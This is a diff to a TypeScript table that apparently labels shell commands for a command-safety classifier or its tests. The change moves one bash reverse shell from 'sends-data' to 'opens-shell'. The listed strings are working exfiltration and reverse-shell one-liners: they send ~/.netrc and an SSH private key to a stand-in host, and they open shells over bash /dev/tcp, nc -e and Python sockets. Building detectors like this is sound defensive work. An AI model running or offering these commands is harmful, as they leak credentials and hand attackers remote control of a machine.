@@ -61,7 +61,7 @@ const DOES: readonly (readonly [string, Deed])[] = [
   ['cat ~/.netrc > /dev/tcp/203.0.113.9/80', 'sends-data'],
   ['dig $(whoami).h.example', 'sends-data'],
   ['scp ~/.ssh/id_ed25519 u@h.example:', 'sends-data'],
-  ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'sends-data'],
+  ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'opens-shell'],
   ['nc -e /bin/sh 203.0.113.9 4444', 'opens-shell'],
   [
     "python3 -c \"import socket,os,pty;s=socket.socket();s.connect(('203.0.113.9',4));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn('/bin/sh')\"",
